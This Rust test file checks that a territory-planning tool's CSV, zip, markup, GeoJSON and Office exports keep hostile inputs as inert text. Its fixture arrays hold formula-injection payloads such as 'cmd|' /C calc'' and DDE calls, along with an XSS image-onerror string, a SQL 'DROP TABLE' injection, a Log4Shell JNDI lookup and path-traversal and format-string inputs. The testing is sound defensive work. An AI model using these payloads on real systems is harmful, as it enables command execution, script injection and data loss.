//! Thirty cells that spreadsheets would run, twenty names that break what is not careful.

use serde_json::json;
use support::{Desk, plans};

use crate::programs::look;
use crate::write;

const FORMULAS: [&str; 30] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x\",\"y\")",
    "=IMPORTXML(\"http://x\",\"//a\")",
    "=WEBSERVICE(\"http://x\")",
    "=DDE(\"cmd\";\"/C calc\";\"\")",
    "=A1",
    "==1",
    "=",
    "=\"a\"&\"b\"",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+A1",
    "+",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "-A1",
    "--1",
    "-",
    "@SUM(1,1)",
    "@A1",
    "@",
    "\t=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "=1;2",
    "+49 30 1234",
];

const NAMES: [&str; 20] = [
    "=HYPERLINK(\"http://x\",\"y\")",
    "<a:t>]]></a:t><script>alert(1)</script>&amp;",
    "'; DROP TABLE territories; --",
    "../../\u{202E}Nörd\"\\\u{200B}ß 中",
    "</title></svg><img src=x onerror=alert(1)>",
    "<![CDATA[x]]>",
    "<!--",
    "&#x0;&nbsp;&lt;",
    "%s%n%x",
    "${jndi:ldap://x}",
    "{{data}}",
    "a\"b'c`d",
    "CON",
    "C:\\Windows\\x.txt",
    "🗺️👩‍👩‍👧‍👦",
    "שלום עולם",
    "Ａ＝１",
    "a,b;c\td",
    "\u{FEFF}BOM",
    "x]]>y<z>&\"'",
];

fn desk() -> Desk {
    let mut plan = plans::sized(plans::Size {
        wide: 20,
        high: 2,
        accounts: 60,
        territories: 20,
        corners: 1,
    });
    for scenario in &mut plan.scenarios {
        for (territory, name) in scenario.territories.iter_mut().zip(NAMES) {
            name.clone_into(&mut territory.name);
        }
    }
    for (name, formula) in plan.accounts.names.iter_mut().zip(FORMULAS) {
        formula.clone_into(name);
    }
    Desk::with(&plan)
}

/// The cells of a CSV file.
fn cells(bytes: &[u8]) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes);
    let rows = reader.records().map(|row| row.unwrap());
    rows.flat_map(|row| row.iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

fn runs(cell: &str) -> bool {
    let number = cell.trim_start_matches(['+', '-']).parse::<f64>().is_ok() && !cell.contains(' ');
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']) && !number
}

#[test]
fn no_cell_of_any_table_runs_and_every_formula_is_there_as_words() {
    let desk = desk();
    for table in ["accounts", "territories", "areas", "ranges", "moves"] {
        let path = write(
            &desk,
            &format!("{table}.csv"),
            "csv",
            json!({ "table": table }),
        );
        let found = cells(&std::fs::read(path).unwrap());
        assert_eq!(found.iter().find(|cell| runs(cell)), None, "{table}");
        if table == "accounts" {
            for formula in FORMULAS {
                let kept = format!("'{formula}");
                assert!(
                    found.iter().any(|cell| *cell == kept || cell == formula),
                    "{formula:?}"
                );
            }
        }
    }
}

#[test]
fn no_cell_of_a_hand_off_runs() {
    let desk = desk();
    for format in ["hubspot", "dynamics"] {
        let path = write(&desk, &format!("{format}.zip"), format, json!({}));
        let file = std::fs::File::open(path).unwrap();
        let mut zip = zip::ZipArchive::new(file).unwrap();
        for at in 0..zip.len() {
            let mut entry = zip.by_index(at).unwrap();
            let mut bytes = Vec::new();
            std::io::Read::read_to_end(&mut entry, &mut bytes).unwrap();
            let found = cells(&bytes);
            assert_eq!(found.iter().find(|cell| runs(cell)), None, "{format} {at}");
        }
    }
}

#[test]
fn hostile_names_stay_words_in_every_kind_of_markup() {
    let desk = desk();
    for (format, name) in [
        ("svg", "map.svg"),
        ("kml", "map.kml"),
        ("viewer", "map.html"),
    ] {
        let path = write(&desk, name, format, json!({ "recipe": "overview" }));
        let text = std::fs::read_to_string(path).unwrap();
        for tag in ["<script>alert", "<img", "<a:t>", "<![CDATA[x", "<!--"] {
            assert!(!text.contains(tag), "{format}: {tag}");
        }
    }
    for (format, name) in [("geojson", "map.geojson"), ("topojson", "map.topojson")] {
        let path = write(&desk, name, format, json!({}));
        let read: serde_json::Value =
            serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
        let text = read.to_string();
        for name in NAMES {
            assert!(text.contains(&json!(name).to_string()), "{format}: {name}");
        }
    }
}

#[test]
fn office_programs_find_words_where_others_would_run_them() {
    let desk = desk();
    let workbook = write(&desk, "plan.xlsx", "xlsx", json!({}));
    let Some(found) = look(&workbook) else { return };
    let sheets = found["sheets"].as_object().unwrap();
    assert!(sheets.values().all(|sheet| sheet["formulas"] == 0));
    let accounts = sheets["Accounts"]["rows"].to_string();
    for formula in FORMULAS {
        assert!(
            accounts.contains(&json!(formula).to_string()),
            "{formula:?}"
        );
    }
    let deck = write(&desk, "deck.pptx", "pptx", json!({ "recipe": "atlas" }));
    let found = look(&deck).unwrap();
    let titles: Vec<&str> = found["slides"].as_array().unwrap()[2..]
        .iter()
        .filter_map(|slide| slide["title"].as_str())
        .collect();
    assert_eq!(titles.len(), NAMES.len());
}
